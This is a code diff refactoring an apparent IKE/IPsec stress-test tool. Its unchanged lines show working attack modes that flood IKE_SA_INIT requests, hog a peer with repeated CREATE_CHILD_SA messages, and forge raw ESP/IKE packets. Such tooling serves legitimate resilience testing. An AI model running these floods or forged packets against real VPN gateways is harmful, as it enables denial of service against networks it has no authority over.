@@ -41,18 +41,8 @@ import struct
 import sys
 import time
 
-IKE_SA_INIT, CREATE_CHILD_SA = 34, 36
-FLAG_I = 0x08
-NP_SA, NP_SK = 33, 46
-
-
-def ike_header(ispi, rspi, np, exch, flags, msgid, body):
-    # RFC 7296 3.1: SPIi, SPIr, Next Payload, Version 2.0, Exchange, Flags, Message ID, Length
-    return struct.pack("!QQBBBBII", ispi, rspi, np, 0x20, exch, flags, msgid, 28 + len(body)) + body
-
-
-def payload(body):
-    return struct.pack("!BBH", 0, 0, 4 + len(body)) + body
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "peers"))
+from ikewire import CREATE_CHILD_SA, F_INITIATOR, IKE_SA_INIT, P_SA, P_SK, header, payload  # noqa: E402
 
 
 def destinations(base, spread):
@@ -125,7 +115,7 @@ def ike_init(a):
     p = Pace(a.rate, a.count, a.duration)
     while p.next():
         i = p.n - 1
-        pkt = ike_header(secrets.randbits(64) | 1, 0, NP_SA, IKE_SA_INIT, FLAG_I, 0, body)
+        pkt = header(secrets.randbits(64) | 1, 0, P_SA, IKE_SA_INIT, F_INITIATOR, 0, body)
         send(s, pkt, (dsts[i % len(dsts)], 500))
     print("attack: ike-init: %d IKE_SA_INIT with random initiator SPIs to %d destination(s) in %.1fs"
           % (p.n, len(dsts), p.elapsed()), flush=True)
@@ -134,12 +124,12 @@ def ike_init(a):
 def child_hog(a):
     s = ike_socket()
     ispi, rspi = secrets.randbits(64) | 1, secrets.randbits(64) | 1
-    send(s, ike_header(ispi, 0, NP_SA, IKE_SA_INIT, FLAG_I, 0, payload(os.urandom(40))), (a.peer, 500))
+    send(s, header(ispi, 0, P_SA, IKE_SA_INIT, F_INITIATOR, 0, payload(os.urandom(40))), (a.peer, 500))
     print("attack: child-hog: IKE SA 0x%016x, a CREATE_CHILD_SA every %ss" % (ispi, a.interval), flush=True)
     end = time.monotonic() + a.duration
     msgid = 2       # as if IKE_AUTH (message 1) had happened
     while True:
-        send(s, ike_header(ispi, rspi, NP_SK, CREATE_CHILD_SA, FLAG_I, msgid, payload(os.urandom(64))),
+        send(s, header(ispi, rspi, P_SK, CREATE_CHILD_SA, F_INITIATOR, msgid, payload(os.urandom(64))),
              (a.peer, 500))
         print("attack: child-hog: CREATE_CHILD_SA message ID %d at %.1f" % (msgid, time.monotonic()), flush=True)
         msgid += 1
@@ -159,8 +149,8 @@ def forge(a):
         if a.kind == "esp":
             proto, body = socket.IPPROTO_ESP, struct.pack("!II", secrets.randbits(32) | 0x100, 1) + os.urandom(48)
         else:
-            ike = ike_header(secrets.randbits(64) | 1, secrets.randbits(64) | 1, NP_SK, CREATE_CHILD_SA,
-                             FLAG_I, 2, payload(os.urandom(64)))
+            ike = header(secrets.randbits(64) | 1, secrets.randbits(64) | 1, P_SK, CREATE_CHILD_SA,
+                             F_INITIATOR, 2, payload(os.urandom(64)))
             proto, body = socket.IPPROTO_UDP, struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike
         # RFC 791 header; the kernel fills in the checksum (and an ID when 0)
         ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 0, 0, 64, proto, 0,
